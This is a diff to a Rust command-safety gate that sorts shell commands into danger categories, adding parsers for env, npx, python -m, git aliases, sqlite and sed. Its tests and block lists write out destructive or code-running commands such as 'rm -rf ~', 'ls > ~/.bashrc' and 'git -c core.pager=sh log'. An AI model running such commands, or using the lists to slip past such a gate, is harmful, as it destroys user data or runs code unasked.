+/// used for options that make a command dangerous, so an over-match only asks more.
+pub(crate) fn long_is(x: &str, full: &str) -> bool {
+    let name = x.split_once('=').map_or(x, |(n, _)| n);
+    name == full || (name.len() >= 4 && name.starts_with("--") && full.starts_with(name))
 }
 
 // ------------------------------------------------------------------------------- programs
@@ -641,22 +701,85 @@ fn step(n: &str, args: &[String], a: &mut Acc, depth: u8) -> Option<usize> {
                 format!("{} runs the command as administrator", q(n)),
             );
         }
-        "env" => a.flag(
-            Danger::Opaque,
-            "`env` can change the environment and `PATH`, so what runs",
-        ),
-        "xargs" => a.flag(Danger::Opaque, "`xargs` builds commands from its input"),
+        "xargs" => {
+            let inner = next_operand(args, vals)
+                .and_then(|j| args.get(j))
+                .map(|p| prog_name(p));
+            if inner.is_some_and(|p| !TEXT_ONLY.contains(&p.as_str())) {
+                a.flag(
+                    Danger::Opaque,
+                    "`xargs` gives arguments from its input to a program that can change files",
+                );
+            }
+        }
         "exec" => a.flag(Danger::Opaque, "`exec` replaces the shell"),
+        "setsid" => a.flag(
+            Danger::Opaque,
+            "`setsid` starts the command in a new session, outside the tool's process group",
+        ),
+        "unshare" => a.flag(
+            Danger::Opaque,
+            "`unshare` runs the command in new namespaces",
+        ),
+        "ssh-agent" => a.flag(
+            Danger::Opaque,
+            "`ssh-agent` runs the command with an agent that can hold keys",
+        ),
+        "taskset" | "chrt"
+            if lead
+                .iter()
+                .any(|x| short_has(x, "p") || long_is(x, "--pid")) =>
+        {
+            return None;
+        }
         "command" if lead.iter().any(|x| short_has(x, "vV")) => return None,
         "ionice" if has(lead, &["-p", "--pid", "-P", "--pgid", "-u", "--uid"]) => return None,
         _ => {}
     }
-    let mut j = next_operand(args, vals)?;
-    if n == "timeout" {
-        j += 1; // the duration
+    if n == "env" {
+        return env(args, a);
     }
-    while n == "env" && args.get(j).is_some_and(|x| x.contains('=')) {
-        j += 1;
+    let mut j = next_operand(args, vals)?;
+    if matches!(n, "timeout" | "setarch" | "chrt" | "taskset") {
+        j += 1; // the duration, architecture, priority or CPU mask
+    }
+    Some(j)
+}
+
+/// `env [NAME=VALUE]… CMD`: only safe names and no options keep it transparent; bare `env`
+/// prints the environment, which holds secrets.
+fn env(args: &[String], a: &mut Acc) -> Option<usize> {
+    let j = args
+        .iter()
+        .position(|x| !x.contains('=') || x.starts_with('-'));
+    let Some(j) = j else {
+        a.flag(
+            Danger::Opaque,
+            "`env` prints the environment, which can hold secrets",
+        );
+        return None;
+    };
+    let assigns = args.get(..j).unwrap_or_default();
+    let unsafe_names: Vec<&str> = assigns
+        .iter()
+        .filter_map(|x| x.split_once('=').map(|(k, _)| k))
+        .filter(|k| !crate::shell::safe_env(k))
+        .collect();
+    if args.get(j).is_some_and(|x| x.starts_with('-')) || !unsafe_names.is_empty() {
+        a.flag(
+            Danger::Opaque,
+            "`env` can change the environment and `PATH`, so what runs",
+        );
+    }
+    if args.get(j).is_some_and(|x| x.starts_with('-')) {
+        return next_operand(
+            args,
+            WRAPPERS
+                .iter()
+                .find(|(w, _)| *w == "env")
+                .map_or(&[], |(_, v)| v),
+        )
+        .map(|k| k + args.iter().skip(k).take_while(|x| x.contains('=')).count());
     }
     Some(j)
 }
@@ -692,15 +815,20 @@ fn generic(n: &str, args: &[String], a: &mut Acc) {
                 );
             }
         }
-        let val = if DIR_OPTS.contains(&x.as_str()) {
+        let val = if takes_value(x, DIR_OPTS) {
             args.get(k + 1).map(String::as_str)
+        } else if x.starts_with("--") {
+            x.split_once('=')
+                .filter(|_| opt_in(x, DIR_OPTS))
+                .map(|(_, v)| v)
         } else {
-            let eq = x.split_once('=').filter(|(o, _)| DIR_OPTS.contains(o));
-            eq.map(|(_, v)| v).or(x.strip_prefix("-C"))
+            ["-C", "-o"].iter().find_map(|o| {
+                x.strip_prefix(o)
+                    .filter(|r| !r.is_empty() && !r.starts_with('='))
+            })
         };
-        if let Some(v) = val.filter(|v| outside(v)) {
-            let why = format!("{who} works in {}, outside the working directory", q(v));
-            a.flag(Danger::OutsideCwd, why);
+        if let Some(v) = val {
+            a.outside_path(&who, "works in", v);
         }
     }
 }
@@ -711,14 +839,25 @@ fn terminal(n: &str, args: &[String], a: &mut Acc, depth: u8) {
     generic(n, args, a);
     let (f, who) = (fam(n), q(n));
     let any = |p: &dyn Fn(&str) -> bool| args.iter().any(|x| p(x));
-    let opt = |l: &[&str]| any(&|x| l.iter().any(|o| x == *o || x.strip_prefix(o).is_some_and(|r| r.starts_with('='))));
+    let opt = |l: &[&str]| any(&|x| opt_in(x, l));
     macro_rules! hit { ($d:expr, $cond:expr, $why:expr) => { if $cond { a.flag($d, format!("{who} {}", $why)); } }; }
-    if let Some(v) = first_pos(args, PM_VALS) {
+    for v in pm_verbs(args) {
         let is = |t: &[(&str, &[&str])]| t.iter().any(|(p, vs)| (*p == n || *p == f) && vs.contains(&v));
         let nv = q(&format!("{n} {v}"));
         if is(PKG) { a.flag(PackageInstall, format!("{nv} installs or fetches packages")); }
         if is(NET_VERBS) { a.flag(Network, format!("{nv} reaches the network")); }
     }
+    let init_pkg = matches!(f, "npm" | "pnpm" | "yarn" | "bun") && {
+        let ops: Vec<&str> = args.iter().filter(|x| !x.starts_with('-')).map(String::as_str).collect();
+        ops.first().is_some_and(|v| matches!(*v, "init" | "create" | "innit")) && ops.len() > 1
+    };
+    hit!(PackageInstall, init_pkg, "init <package> fetches and runs a package from the registry");
+    hit!(Admin, n == "install" && args.windows(2).any(|w| opt_in(&w[0], &["-m", "--mode"]) && setuid(w[0].strip_prefix("-m").filter(|m| !m.is_empty()).or(w[0].split_once('=').map(|(_, m)| m)).unwrap_or(&w[1]))), "sets the setuid/setgid bit");
+    hit!(Admin, n == "install" && args.windows(2).any(|w| opt_in(&w[0], &["-o", "--owner", "-g", "--group"]) && [w[0].as_str(), w[1].as_str()].iter().any(|v| v.ends_with("root") || *v == "0")), "gives files to root");
+    hit!(Opaque, matches!(n, "source" | ".") && first_pos(args, &[]).is_none_or(|t| { let o = a.at(t); o.is_none_or(|o| outside(&o)) }), "runs a script from outside the working directory in this shell");
+    hit!(Opaque, n == "tar" && args.first().is_some_and(|x| !x.starts_with('-') && x.chars().all(|c| c.is_ascii_alphabetic()) && x.contains(['I', 'F'])), "runs a program from its options");
+    hit!(Opaque, n == "git" && git_unknown_sub(args), "may run a git alias, which can run any command");
+    hit!(Opaque, f == "sqlite" && sqlite_runs(args, &a.stdin), "can run shell commands (`.shell`), write files (`.output`, `writefile()`) or load code");
     hit!(Network, NET.contains(&n) || NET.contains(&f), "reaches the network");
     hit!(Admin, ADMIN.contains(&n), "needs or grants administrator rights");
     hit!(Opaque, OPAQUE_PROGS.contains(&n), "runs other commands or changes how the shell runs them");
@@ -735,8 +874,10 @@ fn terminal(n: &str, args: &[String], a: &mut Acc, depth: u8) {
     hit!(Admin, n == "wipefs" || n.starts_with("mkfs"), "needs administrator rights");
     hit!(Admin, n == "chmod" && any(&setuid), "sets the setuid/setgid bit");
     hit!(Admin, matches!(n, "chown" | "chgrp") && first_pos(args, &[]).is_some_and(|o| o.split([':', '.']).any(|p| p == "root" || p == "0")), "gives files to root");
-    hit!(OutsideCwd, n == "popd" || (matches!(n, "cd" | "pushd" | "chdir") && first_pos(args, &[]).is_none_or(|t| t == "-" || outside(t))), "leaves the working directory");
-    hit!(PackageInstall, matches!(n, "npx" | "bunx" | "pnpx" | "uvx" | "emerge" | "cargo-binstall"), "fetches and runs or installs packages");
+    hit!(OutsideCwd, n == "popd", "leaves the working directory");
+    if matches!(n, "cd" | "pushd" | "chdir") { cd(args, a); }
+    hit!(PackageInstall, matches!(n, "uvx" | "emerge" | "cargo-binstall"), "fetches and runs or installs packages");
+    if matches!(n, "npx" | "bunx" | "pnpx") { npx(n, args, a); }
     hit!(PackageInstall, n == "dpkg" && any(&|x| short_has(x, "i") || x == "--install" || x == "--unpack"), "installs packages");
     hit!(PackageInstall, n == "rpm" && any(&|x| ["-i", "-U", "-F", "--install", "--upgrade", "--freshen", "--reinstall"].iter().any(|o| x.starts_with(o))), "installs packages");
     hit!(PackageInstall, matches!(n, "pacman" | "yay" | "paru") && ((n != "pacman" && args.is_empty()) || any(&|x| x.starts_with("-S") || x.starts_with("-U") || x == "--sync" || x == "--upgrade")), "installs packages");
@@ -753,15 +894,53 @@ fn terminal(n: &str, args: &[String], a: &mut Acc, depth: u8) {
         "find" => find_cmd(args, a, depth),
         "git" => git(args, a),
         "systemctl" => systemctl(args, a),
-        "eval" if depth < MAX_DEPTH => shell_into(&args.join(" "), a, depth + 1),
+        "eval" => inline_shell(a, &args.join(" "), depth),
         "su" if any(&|x| x == "-c" || x.starts_with("--command")) => {
             a.flag(Opaque, "`su -c` runs inline shell code");
             let code = args.iter().position(|x| x == "-c").and_then(|k| args.get(k + 1));
-            if let Some(code) = code.filter(|_| depth < MAX_DEPTH) { shell_into(code, a, depth + 1); }
+            if let Some(code) = code { inline_shell(a, code, depth); }
         }
         _ if SHELLS.contains(&f) => shell(n, args, a, depth),
         _ if matches!(f, "python" | "pypy") => python(args, a, depth),
         _ => {}
+    }
+}
+
+/// Classify shell code given as a string (`sh -c CODE`, `eval`, a here-document fed to a shell)
+/// one level down; its `cd` does not move the outer command.
+fn inline_shell(a: &mut Acc, code: &str, depth: u8) {
+    if depth >= MAX_DEPTH {
+        a.flag(Danger::Opaque, "it nests shell code too deeply to analyse");
+        return;
+    }
+    let (cwd, cur, stdin) = (a.cwd.clone(), a.cur, a.stdin.clone());
+    a.controls(&code.replace('\n', " "));
+    a.mentions(code);
+    crate::shell::analyze(code, a, depth + 1);
+    (a.cwd, a.cur, a.stdin) = (cwd, cur, stdin);
+}
+
+/// `npx NAME` runs the project's own `node_modules/.bin/NAME` when it is installed and fetches a
+/// package from the registry otherwise: the finding holds unless the tool finds the local binary.
+fn npx(n: &str, args: &[String], a: &mut Acc) {
+    let why = format!("{} fetches and runs or installs packages", q(n));
+    let fetches = args
+        .iter()
+        .any(|x| opt_in(x, &["-p", "--package", "--call", "-c"]));
+    let name = first_pos(args, &[])
+        .filter(|p| !fetches && !p.contains(['@', '/', '\\', ':']) && !p.starts_with('.'));
+    match name.and_then(|p| a.at(&format!("node_modules/.bin/{p}"))) {
+        Some(bin) => {
+            let cur = a.cur;
+            a.findings.push(Finding {
+                danger: Danger::PackageInstall,
+                reason: why,
+                path: None,
+                command: cur,
+                local_bin: Some(bin),
+            });
+        }
+        None => a.flag(Danger::PackageInstall, why),
     }
 }
 
@@ -770,7 +949,7 @@ fn rm(args: &[String], a: &mut Acc) {
     if args
         .iter()
         .take(end)
-        .any(|x| x == "--recursive" || short_has(x, "rR"))
+        .any(|x| long_is(x, "--recursive") || short_has(x, "rR"))
     {
         a.flag(
             Danger::RecursiveDelete,
@@ -846,40 +1025,106 @@ fn shell(n: &str, args: &[String], a: &mut Acc, depth: u8) {
         );
         let attached = args.get(k).and_then(|x| x.strip_prefix("--command="));
         let code = attached.or(args.get(k + 1).map(String::as_str));
-        if let Some(code) = code.filter(|_| depth < MAX_DEPTH) {
-            shell_into(code, a, depth + 1);
+        if let Some(code) = code {
+            inline_shell(a, code, depth);
         }
         return;
     }
     let script = first_pos(args, &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"]);
-    if script.is_none() || args.iter().any(|x| short_has(x, "si")) {
-        let why = format!("{} reads commands from stdin or runs interactively", q(n));
-        a.flag(Danger::Opaque, why);
+    if args.iter().any(|x| short_has(x, "i")) {
+        a.flag(
+            Danger::Opaque,
+            format!("{} runs an interactive shell", q(n)),
+        );
+    }
+    if script.is_some() && !args.iter().any(|x| short_has(x, "s")) {
+        return;
+    }
+    match a.stdin.clone() {
+        crate::shell::Stdin::Text(Some(code)) => inline_shell(a, &code, depth),
+        crate::shell::Stdin::Text(None) => a.flag(
+            Danger::Opaque,
+            format!(
+                "{} runs a here-document with parts known only at run time",
+                q(n)
+            ),
+        ),
+        crate::shell::Stdin::Pipe => a.flag(
+            Danger::Opaque,
+            format!("{} runs commands it reads from a pipe", q(n)),
+        ),
+        _ => a.flag(
+            Danger::Opaque,
+            format!("{} reads commands from stdin or runs interactively", q(n)),
+        ),
     }
 }
 
+/// Python modules `python -m` may run without asking: test runners, linters, formatters, the
+/// standard library's harmless tools. Any other module asks (`timeit`, `pdb`, `code` run code from
+/// their arguments; `pydoc -p`, `telnetlib`, `zipfile -e` open sockets or write anywhere).
+#[rustfmt::skip]
+const PY_MODULES: &[&str] = &["pytest", "unittest", "doctest", "mypy", "black", "ruff", "flake8", "pylint", "isort", "venv", "json.tool",
+    "py_compile", "compileall", "coverage", "pyflakes", "pycodestyle", "pydocstyle", "bandit", "site", "sysconfig", "platform",
+    "tabnanny", "tokenize", "ast", "dis", "calendar", "uuid", "pyright", "nox_NONE", "maturin", "django", "flask_NONE", "pytest_benchmark"];
+
 fn python(args: &[String], a: &mut Acc, depth: u8) {
+    if args
+        .first()
+        .is_some_and(|x| matches!(x.as_str(), "-V" | "--version" | "-VV" | "-h" | "--help"))
+    {
+        return;
+    }
     let mut k = 0;
     while let Some(x) = args.get(k) {
-        if x == "-m" {
-            let rest = args.get(k + 2..).unwrap_or_default();
-            match args.get(k + 1).map(String::as_str) {
-                Some("http.server" | "SimpleHTTPServer" | "smtpd" | "aiosmtpd") => {
-                    a.flag(
-                        Danger::Network,
-                        "`python -m http.server` serves on the network",
-                    );
-                }
-                Some(m @ ("pip" | "pipx" | "uv")) => terminal(m, rest, a, depth),
-                _ => {}
-            }
-            return;
-        }
         if x == "-" || short_has(x, "c") {
             a.flag(
                 Danger::Opaque,
-                "`python` runs inline code or code from stdin",
+                "`python -c` runs inline code: it can do anything the user can",
             );
+            return;
+        }
+        let module = if short_has(x, "m") {
+            let cluster = x.get(1..).unwrap_or_default();
+            let after = cluster.split_once('m').map(|(_, r)| r).unwrap_or_default();
+            if after.is_empty() {
+                k += 1;
+                args.get(k).map(String::as_str)
+            } else {
+                Some(after)
+            }
+        } else {
+            None
+        };
+        if short_has(x, "m") {
+            let rest = args.get(k + 1..).unwrap_or_default();
+            match module {
+                Some(
+                    "http.server" | "SimpleHTTPServer" | "smtpd" | "aiosmtpd" | "pydoc"
+                    | "telnetlib" | "smtplib" | "ftplib" | "xmlrpc.server" | "webbrowser"
+                    | "http.client" | "CGIHTTPServer",
+                ) => {
+                    a.flag(
+                        Danger::Network,
+                        format!(
+                            "{} can serve on or reach the network",
+                            q(&format!("python -m {}", module.unwrap_or_default()))
+                        ),
+                    );
+                }
+                Some(m @ ("pip" | "pipx" | "uv" | "ensurepip")) => terminal(m, rest, a, depth),
+                Some(m) if PY_MODULES.contains(&m) => {}
+                m => {
+                    let m = m.unwrap_or("");
+                    a.flag(
+                        Danger::Opaque,
+                        format!(
+                            "{} runs a module whose behaviour the gate does not know",
+                            q(&format!("python -m {m}"))
+                        ),
+                    );
+                }
+            }
             return;
         }
         if !x.starts_with('-') {
@@ -887,10 +1132,166 @@ fn python(args: &[String], a: &mut Acc, depth: u8) {
         }
         k += if x == "-W" || x == "-X" { 2 } else { 1 };
     }
-    a.flag(
-        Danger::Opaque,
-        "`python` without a script reads code from stdin",
-    );
+    let why = match a.stdin {
+        crate::shell::Stdin::Text(_) | crate::shell::Stdin::Pipe => {
+            "`python` runs the code it is given on its input: it can do anything the user can"
+        }
+        _ => "`python` without a script reads code from stdin",
+    };
+    a.flag(Danger::Opaque, why);
+}
+
+/// The operands that could be a package manager's verb: the first one, skipping values of known
+/// options and `+toolchain`, and the next one too when an option of unknown arity came first.
+fn pm_verbs(args: &[String]) -> Vec<&str> {
+    let (mut out, mut unsure, mut k) = (Vec::new(), false, 0);
+    while let Some(x) = args.get(k) {
+        k += 1;
+        if x == "--" || x.starts_with('+') {
+            continue;
+        }
+        if x.starts_with('-') && x.len() > 1 {
+            if takes_value(x, PM_VALS) {
+                k += 1;
+            } else if x.starts_with("--") && !x.contains('=') {
+                unsure = true;
+            }
+            continue;
+        }
+        out.push(x.as_str());
+        if !unsure || out.len() >= 2 {
+            break;
+        }
+    }
+    out
+}
+
+/// Git's own commands; anything else may be an alias from a config file, and `!` aliases run
+/// shell commands.
+#[rustfmt::skip]
+const GIT_SUBS: &[&str] = &["add", "am", "annotate", "apply", "archive", "bisect", "blame", "branch", "bundle", "cat-file", "check-attr",
+    "check-ignore", "check-mailmap", "check-ref-format", "checkout", "checkout-index", "cherry", "cherry-pick", "citool", "clean", "clone",
+    "commit", "commit-graph", "commit-tree", "config", "count-objects", "describe", "diff", "diff-files", "diff-index", "diff-tree",
+    "fetch", "for-each-ref", "format-patch", "fsck", "gc", "grep", "hash-object", "help", "init", "log", "ls-files", "ls-remote", "ls-tree",
+    "maintenance", "merge", "merge-base", "merge-file", "merge-tree", "mv", "name-rev", "notes", "pull", "push", "range-diff", "read-tree",
+    "rebase", "reflog", "remote", "repack", "replace", "restore", "rev-list", "rev-parse", "revert", "rm", "shortlog", "show", "show-branch",
+    "show-ref", "sparse-checkout", "stage", "stash", "status", "submodule", "switch", "symbolic-ref", "tag", "update-index", "update-ref",
+    "var", "verify-commit", "verify-tag", "version", "whatchanged", "worktree", "write-tree", "difftool", "mergetool", "filter-branch",
+    "send-email", "request-pull", "daemon", "instaweb", "lfs", "svn", "p4", "credential", "hook", "fetch-pack", "send-pack", "upload-pack",
+    "receive-pack", "upload-archive", "bugreport", "prune", "unpack-objects", "pack-objects", "index-pack", "verify-pack", "mktree", "mktag",
+    "interpret-trailers", "column", "get-tar-commit-id", "stripspace", "patch-id", "imap-send", "fast-export", "fast-import", "rerere",
+    "backfill", "replay", "reset", "gui", "init-db", "mailinfo", "mailsplit", "pack-refs", "prune-packed", "multi-pack-index", "diagnose", "cvsimport", "archimport", "quiltimport", "http-fetch", "http-push", "remote-ext", "remote-fd", "show-index", "filter-repo"];
+
+fn git_unknown_sub(args: &[String]) -> bool {
+    let mut k = 0;
+    while let Some(x) = args.get(k) {
+        if !x.starts_with('-') {
+            return !GIT_SUBS.contains(&x.as_str());
+        }
+        k += if matches!(
+            x.as_str(),
+            "-C" | "-c"
+                | "--git-dir"
+                | "--work-tree"
+                | "--namespace"
+                | "--super-prefix"
+                | "--attr-source"
+                | "--config-env"
+        ) {
+            2
+        } else {
+            1
+        };
+    }
+    false
+}
+
+/// Does `sqlite3` get SQL or dot-commands that run programs, write files or load code — or SQL
+/// it reads from a pipe or file the gate cannot see?
+fn sqlite_runs(args: &[String], stdin: &crate::shell::Stdin) -> bool {
+    const BAD: &[&str] = &[
+        ".sh",
+        ".system",
+        ".output",
+        ".once",
+        ".log",
+        ".load",
+        ".import",
+        ".save",
+        ".backup",
+        ".clone",
+        ".excel",
+        ".open",
+        ".read",
+        ".restore",
+        ".cd",
+        ".archive",
+        ".ar ",
+        ".recover",
+        ".dbconfig",
+        ".iotrace",
+        ".trace",
+        ".testcase",
+        "writefile",
+        "edit(",
+        "load_extension",
+        "attach",
+        "fts3_tokenizer",
+        "vacuum into",
+        "readfile",
+    ];
+    let bad = |t: &str| {
+        let l = t.to_lowercase();
+        BAD.iter().any(|b| l.contains(b))
+    };
+    let mut k = 0;
+    let mut operands = 0;
+    while let Some(x) = args.get(k) {
+        k += 1;
+        if x.starts_with('-') {
+            let name = x.trim_start_matches('-');
+            if matches!(
+                name,
+                "init" | "A" | "append" | "deserialize" | "zip" | "unsafe-testing" | "safe_NONE"
+            ) || name.starts_with('A')
+            {
+                return true;
+            }
+            if name == "cmd" {
+                if args.get(k).is_none_or(|c| bad(c)) {
+                    return true;
+                }
+                k += 1;
+            } else if matches!(
+                name,
+                "separator"
+                    | "newline"
+                    | "nullvalue"
+                    | "escape"
+                    | "maxsize"
+                    | "vfs"
+                    | "lookaside"
+                    | "pagecache"
+                    | "heap"
+                    | "mmap"
+                    | "pcachetrace_NONE"
+            ) {
+                k += 1;
+            }
+            continue;
+        }
+        operands += 1;
+        if operands > 1 && bad(x) {
+            return true;
+        }
+    }
+    if operands > 1 {
+        return false;
+    }
+    match stdin {
+        crate::shell::Stdin::Text(Some(t)) => bad(t),
+        _ => true,
+    }
 }
 
 #[rustfmt::skip]
@@ -913,25 +1314,29 @@ fn git(args: &[String], a: &mut Acc) {
     let gs = q(&format!("git {sub}"));
     let any = |p: &dyn Fn(&str) -> bool| rest.iter().any(|x| p(x));
     let exec = ["-c", "--config", "-u", "--upload-pack", "--receive-pack", "--exec", "--template", "foreach"];
+    if any(&|x| opt_in(x, &["--upload-pack", "--receive-pack", "--exec", "--ext-diff", "--textconv", "--open-files-in-pager"]) || (sub == "grep" && (short_has(x, "O")))) {
+        a.flag(Opaque, format!("{gs} can run another program from its options"));
+    }
     let (d, hit, why) = match sub.as_str() {
-        "clone" | "fetch" | "pull" | "push" | "ls-remote" | "send-email" | "svn" | "request-pull" | "daemon" | "instaweb" | "lfs" | "p4" | "submodule" => {
-            let runs = any(&|x| x.starts_with("ext::") || exec.iter().any(|o| x == *o || x.strip_prefix(o).is_some_and(|r| r.starts_with('='))));
+        "clone" | "fetch" | "pull" | "push" | "ls-remote" | "send-email" | "svn" | "request-pull" | "daemon" | "instaweb" | "lfs" | "p4" | "submodule"
+        | "fetch-pack" | "send-pack" | "upload-pack" | "receive-pack" | "upload-archive" | "http-fetch" | "http-push" | "remote-ext" | "remote-fd" | "imap-send" | "cvsimport" | "archimport" | "quiltimport" => {
+            let runs = any(&|x| x.starts_with("ext::") || opt_in(x, &exec));
             if runs { a.flag(Opaque, format!("{gs} can run another program")); }
             (Network, true, "reaches the network")
         }
         "remote" => (Network, has(rest, &["update", "prune", "show", "set-head", "-f", "--fetch"]), "reaches the network"),
         "archive" => (Network, any(&|x| x.starts_with("--remote") || x.starts_with("--exec")), "reaches the network"),
         "config" => (Opaque, !has(rest, &["--get", "--get-all", "--get-regexp", "--get-urlmatch", "--list", "-l", "get", "list"]), "can set aliases, hooks or a pager that run commands"),
-        "clean" => (RecursiveDelete, any(&|x| x == "--force" || short_has(x, "f")) && !any(&|x| x == "--dry-run" || short_has(x, "n")), "deletes untracked files recursively"),
+        "clean" => (RecursiveDelete, any(&|x| long_is(x, "--force") || short_has(x, "f")) && !any(&|x| x == "--dry-run" || short_has(x, "n")), "deletes untracked files recursively"),
         "rm" => (RecursiveDelete, any(&|x| short_has(x, "r")), "deletes recursively"),
         "bisect" => (Opaque, rest.first().is_some_and(|x| x == "run"), "runs a command"),
-        "rebase" => (Opaque, any(&|x| x == "-x" || x.starts_with("--exec")), "runs a command"),
+        "rebase" => (Opaque, any(&|x| short_has(x, "x") || long_is(x, "--exec")), "runs a command"),
         "filter-branch" | "filter-repo" | "difftool" | "mergetool" | "credential" | "hook" => (Opaque, true, "runs other programs"),
         _ => (Opaque, false, ""),
     };
     if hit { a.flag(d, format!("{gs} {why}")); }
     if matches!(sub.as_str(), "clone" | "init" | "worktree") {
-        for x in rest.iter().filter(|x| outside(x)) { a.flag(OutsideCwd, format!("{gs} writes to {}, outside the working directory", q(x))); }
+        for x in rest.iter().filter(|x| !x.starts_with('-')) { a.outside_path(&gs, "writes to", x); }
     }
 }
 
@@ -946,40 +1351,107 @@ fn setuid(m: &str) -> bool {
             .any(|cl| cl.split(['+', '=']).skip(1).any(|p| p.contains('s')))
 }
 
-/// Does a sed script use `e` (run a command) or `w` (write a file), as a command or an `s` flag?
+/// Does a sed script run a command (`e`, the `e` flag of `s`) or write a file (`w`, `W`, the `w`
+/// flag) — or come from somewhere the gate cannot read (`-f FILE`)? Scripts are parsed command by
+/// command; anything not understood counts as running.
 fn sed_runs(args: &[String]) -> bool {
     let mut scripts: Vec<&str> = Vec::new();
-    for (k, x) in args.iter().enumerate() {
-        if x == "-e" || x == "--expression" {
-            scripts.extend(args.get(k + 1).map(String::as_str));
+    let mut k = 0;
+    while let Some(x) = args.get(k) {
+        k += 1;
+        if x == "--" {
+            break;
         }
-        scripts.extend(x.strip_prefix("--expression="));
-    }
-    if scripts.is_empty() {
-        scripts.extend(first_pos(args, &["-f", "--file", "-l", "--line-length"]));
-    }
-    scripts
-        .iter()
-        .flat_map(|s| s.split([';', '\n']))
-        .any(|mut c| {
-            loop {
-                c = c
-                    .trim_start_matches(|ch: char| ch.is_ascii_digit() || " \t,$!~+{".contains(ch));
-                match c.strip_prefix('/').and_then(|r| r.split_once('/')) {
-                    Some((_, rest)) => c = rest, // skip a `/regex/` address
-                    None => break,
+        if x.starts_with("--") {
+            if long_is(x, "--expression") {
+                match x.split_once('=') {
+                    Some((_, v)) => scripts.push(v),
+                    None => {
+                        scripts.extend(args.get(k).map(String::as_str));
+                        k += 1;
+                    }
+                }
+            } else if long_is(x, "--file") {
+                return true;
+            } else if long_is(x, "--line-length") && !x.contains('=') {
+                k += 1;
+            }
+            continue;
+        }
+        if let Some(cluster) = x.strip_prefix('-').filter(|c| !c.is_empty()) {
+            // In a cluster the first of `e`, `f`, `l` takes the rest (or the next argument).
+            if let Some(p) = cluster.find(['e', 'f', 'l']) {
+                let rest = cluster.get(p + 1..).unwrap_or_default();
+                let value = if rest.is_empty() {
+                    k += 1;
+                    args.get(k - 1).map(String::as_str)
+                } else {
+                    Some(rest)
+                };
+                match cluster.as_bytes().get(p) {
+                    Some(b'e') => scripts.extend(value),
+                    Some(b'f') => return true,
+                    _ => {}
                 }
             }
-            let mut it = c.chars();
-            match it.next() {
-                Some('e' | 'w' | 'W') => true,
-                Some('s') => it.next().is_some_and(|d| {
-                    let parts: Vec<&str> = c.split(d).collect(); // s/re/new/flags
-                    parts.len() >= 4 && parts.last().is_some_and(|f| f.contains(['e', 'w']))
-                }),
-                _ => false,
+        }
+    }
+    if scripts.is_empty() {
+        scripts.extend(first_pos(args, &["-l", "--line-length"]));
+    }
+    scripts.iter().any(|s| sed_script_runs(s))
+}
+
+#[rustfmt::skip]
+fn sed_script_runs(script: &str) -> bool {
+    let cs: Vec<char> = script.chars().collect();
+    let mut i = 0;
+    // Skip a delimited part (`/re/`, or `\cREc`), honouring backslash escapes; returns the index after it.
+    let delimited = |i: usize, d: char| -> Option<usize> {
+        let mut j = i;
+        while let Some(&c) = cs.get(j) {
+            if c == '\\' { j += 2; continue; }
+            if c == d { return Some(j + 1); }
+            if c == '\n' { return None; }
+            j += 1;
+        }
+        None
+    };
+    while i < cs.len() {
+        // address: numbers, $, /re/, \cREc, with , ~ + ! and spaces and I/M flags after a regex
+        loop {
+            match cs.get(i) {
+                Some(c) if c.is_ascii_digit() || " \t;,$!~+{}\n".contains(*c) => i += 1,
+                Some('/') => match delimited(i + 1, '/') { Some(j) => { i = j; while matches!(cs.get(i), Some('I' | 'M')) { i += 1; } } None => return true },
+                Some('\\') => match cs.get(i + 1) { Some(&d) => match delimited(i + 2, d) { Some(j) => { i = j; while matches!(cs.get(i), Some('I' | 'M')) { i += 1; } } None => return true }, None => return true },
+                _ => break,
             }
-        })
+        }
+        let Some(&c) = cs.get(i) else { break };
+        i += 1;
+        let to_end = |i: usize| cs.iter().skip(i).position(|&c| c == '\n' || c == ';' || c == '}').map_or(cs.len(), |p| i + p);
+        match c {
+            'e' | 'w' | 'W' => return true,
+            's' | 'y' => {
+                let Some(&d) = cs.get(i) else { return true };
+                if d == '\\' || d == '\n' { return true; }
+                let Some(j) = delimited(i + 1, d).and_then(|j| delimited(j, d)) else { return true };
+                i = j;
+                if c == 's' {
+                    let end = to_end(i);
+                    let flags: String = cs.get(i..end).unwrap_or_default().iter().collect();
+                    if flags.contains(['e', 'w', 'W']) || !flags.chars().all(|f| f.is_ascii_digit() || "gpiImMx ".contains(f)) { return true; }
+                    i = end;
+                }
+            }
+            'a' | 'i' | 'c' => i = cs.iter().skip(i).position(|&c| c == '\n').map_or(cs.len(), |p| i + p),
+            '#' => i = cs.iter().skip(i).position(|&c| c == '\n').map_or(cs.len(), |p| i + p),
+            ':' | 'b' | 't' | 'T' | 'r' | 'R' | 'q' | 'Q' | 'l' | 'L' => i = to_end(i),
+            'p' | 'P' | 'd' | 'D' | 'n' | 'N' | 'g' | 'G' | 'h' | 'H' | 'x' | '=' | 'z' | 'F' => {}
+            _ => return true,
+        }
+    }
+    false
 }
 
 #[cfg(test)]
@@ -994,21 +1466,20 @@ mod tests {
     fn dangerous_commands_are_flagged() {
         let cases: &[(&str, &[Danger])] = &[
             // SECURITY.md E2/E3 and the brief's list
-            ("git status; curl x", &[Opaque, Network]), ("git log\ncurl x", &[Opaque, Network]), ("echo $(curl x)", &[Opaque, Network]),
-            ("`id`", &[Opaque]), ("ls && rm -rf ~", &[Opaque, RecursiveDelete, OutsideCwd]), ("ls > ~/.bashrc", &[Opaque, BootAutostart, OutsideCwd]),
+            ("git status; curl x", &[Network]), ("git log\ncurl x", &[Network]), ("echo $(curl x)", &[Network]),
+            ("`id`", &[Opaque]), ("ls && rm -rf ~", &[RecursiveDelete, OutsideCwd]), ("ls > ~/.bashrc", &[BootAutostart, OutsideCwd]),
             ("env X=1 curl x", &[Opaque, Network]), ("$'\\x3b'", &[Opaque]), ("bash -c 'ls'", &[Opaque]), ("find . -exec rm {} \\;", &[Opaque]),
-            ("xargs rm", &[Opaque]), ("git -c core.pager=sh log", &[Opaque]), ("cd /tmp && touch x", &[Opaque, OutsideCwd]),
+            ("xargs rm", &[Opaque]), ("git -c core.pager=sh log", &[Opaque]), ("cd /tmp && touch x", &[OutsideCwd]),
             ("git -C /other commit", &[OutsideCwd]), ("tar -C / -xf a.tar", &[OutsideCwd]), ("sudo ls", &[Admin]),
             ("pip install requests", &[PackageInstall]), ("npm i -g x", &[PackageInstall]), ("cargo install ripgrep", &[PackageInstall]),
             ("rm -rf build", &[RecursiveDelete]), ("rm -r -f x", &[RecursiveDelete]), ("wget http://x", &[Network]), ("ssh host", &[Network]),
